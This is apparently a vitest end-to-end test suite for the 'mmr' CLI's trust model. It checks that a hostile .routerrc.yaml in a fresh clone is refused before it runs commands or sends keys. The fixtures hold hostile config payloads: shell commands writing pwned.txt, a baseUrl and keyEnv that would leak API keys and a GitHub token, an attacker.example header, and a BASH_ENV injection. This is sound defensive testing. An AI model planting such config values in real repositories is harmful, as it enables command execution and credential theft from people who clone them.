/**
 * The trust model end to end, against the built binary: a throwaway git repository (outside
 * HOME, as a fresh clone in /tmp would be) with a hostile `.routerrc.yaml`. Nothing it asks for
 * may happen before `mmr trust`: no command runs (no file appears), and a capture server on
 * 127.0.0.1 never sees a request, let alone a key.
 */
import { execFileSync } from 'node:child_process';
import { chmodSync, chownSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { startRawServer, type RawServer } from '../helpers/raw-server.js';
import { bin, isolatedEnv, mmr } from '../helpers/cli.js';

const OPENAI_KEY = 'sk-e2e-trust-OPENAI-0123456789abcdef';
const GITHUB_TOKEN = 'ghp_e2eTrustGITHUBtoken0123456789';
const isRoot = process.getuid?.() === 0;

/** A minimal OpenAI chat-completions stream saying `text`. */
const sse = (text: string) =>
  [
    { choices: [{ index: 0, delta: { role: 'assistant', content: text }, finish_reason: null }] },
    { choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] },
    { choices: [], usage: { prompt_tokens: 3, completion_tokens: 2, total_tokens: 5 } },
  ]
    .map((c) => `data: ${JSON.stringify({ id: 'x', object: 'chat.completion.chunk', created: 1, model: 'm', ...c })}\n\n`)
    .join('') + 'data: [DONE]\n\n';

let capture: RawServer;
beforeAll(async () => {
  capture = await startRawServer({ status: 200, headers: { 'content-type': 'text/event-stream' }, body: sse('captured') });
});
afterAll(() => capture.close());

let root: string;
let homes: string[] = [];
afterEach(() => {
  for (const d of [root, ...homes]) if (d) rmSync(d, { recursive: true, force: true });
  homes = [];
});

/** HOME is a fresh temp dir; root/repo a fresh git repository outside it; env has real-looking keys. */
async function clone(config?: string) {
  const { env, home } = await isolatedEnv({ OPENAI_API_KEY: OPENAI_KEY, GITHUB_TOKEN });
  homes.push(home);
  root = mkdtempSync(path.join(tmpdir(), 'mmr-e2e-trust-'));
  const repo = path.join(root, 'repo');
  mkdirSync(repo);
  execFileSync('git', ['init', '-q', repo]);
  if (config !== undefined) writeFileSync(path.join(repo, '.routerrc.yaml'), config);
  return { home, repo, env };
}

const v1 = () => `${capture.url}/v1`;

/** One hostile file per privileged key; `cmd` is what the victim runs in the clone. */
const HOSTILE: { key: string; config: () => string; cmd: string[]; effect: RegExp }[] = [
  {
    key: 'command (preset overridden)',
    config: () => 'providers:\n  openai:\n    protocol: command\n    command: [sh, -c, "id > pwned.txt"]\n',
    cmd: ['ask', '-m', 'openai:gpt-4o-mini', 'hi'],
    effect: /providers\.openai\.command: would run `sh -c 'id > pwned\.txt'`/,
  },
  {
    key: 'command via default (bare mmr ask)',
    config: () => 'providers:\n  x:\n    protocol: command\n    command: [sh, -c, "touch pwned.txt"]\ndefault: [x:y]\n',
    cmd: ['ask', 'hi'],
    effect: /providers\.x\.protocol: would make x run a local program/,
  },
  {
    key: 'baseUrl',
    config: () => `providers:\n  openai:\n    baseUrl: ${v1()}\n`,
    cmd: ['ask', '-m', 'openai:gpt-4o-mini', 'hi'],
    effect: /providers\.openai\.baseUrl: would send OPENAI_API_KEY and your prompts to http:\/\/127\.0\.0\.1:\d+\/v1\n/,
  },
  {
    key: 'keyEnv',
    config: () => `providers:\n  leak:\n    protocol: openai\n    baseUrl: ${v1()}\n    keyEnv: [GITHUB_TOKEN]\n`,
    cmd: ['ask', '-m', 'leak:m', 'hi'],
    effect: /providers\.leak\.keyEnv: would read GITHUB_TOKEN and send it to http:\/\/127\.0\.0\.1/,
  },
  {
    key: 'headers',
    config: () => 'providers:\n  openai:\n    headers: {X-Forwarded-Host: attacker.example}\n',
    cmd: ['ask', '-m', 'openai:gpt-4o-mini', 'hi'],
    effect: /providers\.openai\.headers: would add the header X-Forwarded-Host to every request to http:\/\/127\.0\.0\.1/,
  },
  {
    key: 'env',
    config: () => 'providers:\n  command:\n    command: [sh, -c, "cat >/dev/null; echo ok"]\n    env: {BASH_ENV: ./evil.sh}\n',
    cmd: ['ask', '-m', 'command:x', 'hi'],
    effect: /providers\.command\.env: would set BASH_ENV=\.\/evil\.sh in the environment of/,
  },
];

describe('a hostile .routerrc.yaml in a fresh clone', () => {
  it.each(HOSTILE)('$key: refused with exit 2 before anything runs or is sent', async ({ config, cmd, effect }) => {
    const { repo, env } = await clone(config());
    // The user's own env override points openai at the capture server too: allowed, and it must still see nothing.
    env.OPENAI_BASE_URL = v1();
    const before = capture.requests.length;
    const r = await mmr(cmd, { env, cwd: repo });
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toMatch(/^mmr: \.routerrc\.yaml is not trusted, and it has settings that can run programs or send your keys elsewhere:\n/);
    expect(r.stderr).toMatch(effect);
    expect(r.stderr).toContain('hint: read the file; if you trust it, run: mmr trust .routerrc.yaml');
    expect(existsSync(path.join(repo, 'pwned.txt'))).toBe(false);
    expect(capture.requests.length).toBe(before);
    expect(r.stdout + r.stderr).not.toContain(OPENAI_KEY);
    expect(r.stdout + r.stderr).not.toContain(GITHUB_TOKEN);
  });

  it('route, rules list and models refuse it too (every command that loads config)', async () => {
    const { repo, env } = await clone(HOSTILE[0].config());
    for (const cmd of [['route', 'hi'], ['rules', 'list'], ['models', '--no-probe']]) {
      const r = await mmr(cmd, { env, cwd: repo });
      expect(r.exitCode, cmd.join(' ')).toBe(2);
      expect(r.stderr).toContain('is not trusted');
    }
  });

  it('after mmr trust it works; an edit untrusts it again; --revoke undoes it', async () => {
    const { repo, env } = await clone(`providers:\n  openai:\n    baseUrl: ${v1()}\n`);
    const t = await mmr(['trust'], { env, cwd: repo });
    expect(t.exitCode).toBe(0);
    expect(t.stdout).toMatch(/^trusted \.routerrc\.yaml \(sha256 [0-9a-f]{12}…\)\n/);

    const before = capture.requests.length;
    const ok = await mmr(['ask', '-m', 'openai:gpt-4o-mini', 'hi'], { env, cwd: repo });
    expect(ok.stderr).toBe('');
    expect(ok.exitCode).toBe(0);
    expect(ok.stdout).toBe('captured');
    expect(capture.requests.length).toBe(before + 1); // the user chose this: now the server is theirs

    writeFileSync(path.join(repo, '.routerrc.yaml'), `providers:\n  openai:\n    baseUrl: ${v1()}/other\n`);
    const again = await mmr(['ask', '-m', 'openai:gpt-4o-mini', 'hi'], { env, cwd: repo });
    expect(again.exitCode).toBe(2);
    expect(again.stderr).toMatch(/^mmr: \.routerrc\.yaml changed since you trusted it \(on \d{4}-\d\d-\d\d\)/);
    expect(capture.requests.length).toBe(before + 1);

    const list = await mmr(['trust', '--list'], { env, cwd: repo });
    expect(list.stdout).toMatch(/^changed {2}\S+ \S+ {2}.*\/repo\/\.routerrc\.yaml\n/);
    const revoke = await mmr(['trust', '--revoke', '.routerrc.yaml'], { env, cwd: repo });
    expect(revoke.stdout).toBe('revoked trust in .routerrc.yaml');
  });

  it('a trusted command provider runs; the same file edited does not', async () => {
    const { repo, env } = await clone('providers:\n  x:\n    protocol: command\n    command: [sh, -c, "cat >/dev/null; touch ran.txt; echo done"]\ndefault: [x:y]\n');
    expect((await mmr(['trust', '.routerrc.yaml'], { env, cwd: repo })).exitCode).toBe(0);
    const r = await mmr(['ask', 'hi'], { env, cwd: repo });
    expect(r.stdout).toBe('done');
    expect(existsSync(path.join(repo, 'ran.txt'))).toBe(true);
    rmSync(path.join(repo, 'ran.txt'));
    writeFileSync(path.join(repo, '.routerrc.yaml'), `${readFileSync(path.join(repo, '.routerrc.yaml'), 'utf8')}# harmless-looking comment\n`);
    expect((await mmr(['ask', 'hi'], { env, cwd: repo })).exitCode).toBe(2);
    expect(existsSync(path.join(repo, 'ran.txt'))).toBe(false);
  });

  it('unprivileged settings need no trust, and --config FILE is the user\'s own choice', async () => {
    const { repo, env } = await clone('aliases: {fast: openai:gpt-4o-mini}\ndefault: [fast]\n');
    env.OPENAI_BASE_URL = v1();
    const r = await mmr(['ask', 'hi'], { env, cwd: repo });
    expect(r.exitCode).toBe(0);
    expect(r.stdout).toBe('captured');
    writeFileSync(path.join(repo, 'team.yaml'), `providers:\n  openai:\n    baseUrl: ${v1()}\n`);
    expect((await mmr(['--config', 'team.yaml', 'ask', '-m', 'openai:x', 'hi'], { env, cwd: repo })).exitCode).toBe(0);
  });

  it('mmr --help lists trust', async () => {
    const { env } = await clone();
    const r = await mmr(['--help'], { env });
    expect(r.stdout).toMatch(/^ {2}trust \[options\] \[file\] +let a project config file/m);
  });
});

describe('where the search looks', () => {
  it('outside HOME it stops at the git repository root: a file planted above it is never read', async () => {
    const { repo, env } = await clone();
    writeFileSync(path.join(root, '.routerrc.yaml'), 'aliases: {planted: openai:evil}\ndefault: [planted]\n');
    mkdirSync(path.join(repo, 'src'));
    const r = await mmr(['rules', 'list', '--json'], { env, cwd: path.join(repo, 'src') });
    expect(r.exitCode).toBe(0);
    expect(JSON.parse(r.stdout).files).toEqual([]);
    writeFileSync(path.join(repo, '.routerrc.yaml'), 'aliases: {mine: openai:gpt-4o-mini}\n');
    expect(JSON.parse((await mmr(['rules', 'list', '--json'], { env, cwd: path.join(repo, 'src') })).stdout).files).toEqual([path.join(repo, '.routerrc.yaml')]);
  });

  it('a group-writable config file is skipped with a warning', async () => {
    const { repo, env } = await clone('default: [openai:planted]\n');
    const file = path.join(repo, '.routerrc.yaml');
    if (isRoot) chownSync(file, 0, 4242); // a group that is nobody's private group
    chmodSync(file, 0o664);
    const r = await mmr(['rules', 'list', '--json'], { env, cwd: repo });
    if (!isRoot && !r.stderr) return; // the file's group is this user's private group: allowed by design
    expect(r.exitCode).toBe(0);
    expect(r.stderr).toMatch(/^mmr: skipping \.routerrc\.yaml: writable by group \d+ \(mmr reads only files/);
    expect(JSON.parse(r.stdout).files).toEqual([]);
  });

  it.skipIf(!isRoot)('a repository directory owned by another user is skipped (chown 65534)', async () => {
    const { repo, env } = await clone('providers:\n  openai:\n    protocol: command\n    command: [sh, -c, "touch pwned.txt"]\n');
    chownSync(repo, 65534, 65534);
    const r = await mmr(['route', '-m', 'openai:x', 'hi'], { env, cwd: repo });
    expect(r.exitCode).toBe(0);
    expect(r.stderr).toMatch(new RegExp(`^mmr: skipping config files in ${repo}: owned by uid 65534 `));
    expect(existsSync(path.join(repo, 'pwned.txt'))).toBe(false);
  });

  it('a symlink to /dev/zero and a FIFO are config errors, at once (nothing hangs or eats memory)', async () => {
    const { repo, env } = await clone();
    symlinkSync('/dev/zero', path.join(repo, '.routerrc.yaml'));
    const zero = await mmr(['route', 'hi'], { env, cwd: repo, timeout: 10_000 });
    expect(zero.timedOut).toBe(false);
    expect(zero.exitCode).toBe(2);
    expect(zero.stderr).toContain('.routerrc.yaml: is a character device, not a regular file');
    rmSync(path.join(repo, '.routerrc.yaml'));
    execFileSync('mkfifo', [path.join(repo, '.routerrc.yml')]);
    const fifo = await mmr(['route', 'hi'], { env, cwd: repo, timeout: 10_000 });
    expect(fifo.timedOut).toBe(false);
    expect(fifo.exitCode).toBe(2);
    expect(fifo.stderr).toContain('.routerrc.yml: is a FIFO (named pipe), not a regular file');
  });
});

describe('the rule writer', () => {
  it('rules add keeps a CRLF file CRLF', async () => {
    const { repo, env } = await clone('default: [openai:gpt-4o-mini]\r\nrules:\r\n  - name: first\r\n    use: openai:gpt-4o\r\n');
    const r = await mmr(['rules', 'add', '--name', 'sql', '--keywords', 'sql', '--use', 'openai:gpt-4o-mini'], { env, cwd: repo });
    expect(r.exitCode).toBe(0);
    const text = readFileSync(path.join(repo, '.routerrc.yaml'), 'utf8');
    expect(text).toContain('  - name: sql\r\n');
    expect(text.replace(/\r\n/g, '')).not.toContain('\n');
  });
});

/** As another user (root only): where root's permissions would hide the error. */
describe.skipIf(!isRoot)('as an unprivileged user (uid 65534)', () => {
  const asNobody = (args: string[], env: Record<string, string>, cwd: string) =>
    import('execa').then(({ execa }) => execa(process.execPath, [bin, ...args], { env, cwd, uid: 65534, gid: 65534, reject: false, extendEnv: false, stdin: 'ignore', timeout: 20_000 }));

  it('an unreadable config file is an error (exit 2), not silently skipped', async () => {
    const { repo, env } = await clone('aliases: {a: openai:b}\n');
    chmodSync(root, 0o755);
    for (const d of [env.HOME, repo]) chownSync(d, 65534, 65534);
    const file = path.join(repo, '.routerrc.yaml');
    chownSync(file, 65534, 65534);
    chmodSync(file, 0o000);
    const r = await asNobody(['route', 'hi'], env, repo);
    expect(r.stderr).toContain('.routerrc.yaml: cannot be read: permission denied');
    expect(r.exitCode).toBe(2);
  });

  it('rules add into a directory it cannot write: a clear exit-2 error, not an internal error', async () => {
    const { repo, env } = await clone();
    chmodSync(root, 0o755);
    chownSync(env.HOME, 65534, 65534);
    const file = path.join(repo, 'team.yaml');
    writeFileSync(file, 'rules: []\n');
    chmodSync(file, 0o644); // root's file in root's directory: readable, not writable by nobody
    const r = await asNobody(['--config', file, 'rules', 'add', '--file', file, '--name', 'a', '--keywords', 'x', '--use', 'openai:m'], env, repo);
    expect(r.stderr).toMatch(/^mmr: cannot write .*team\.yaml: permission denied in .*repo; nothing was changed\n {2}hint: check who owns/);
    expect(r.exitCode).toBe(2);
    expect(readFileSync(file, 'utf8')).toBe('rules: []\n');
  });
});
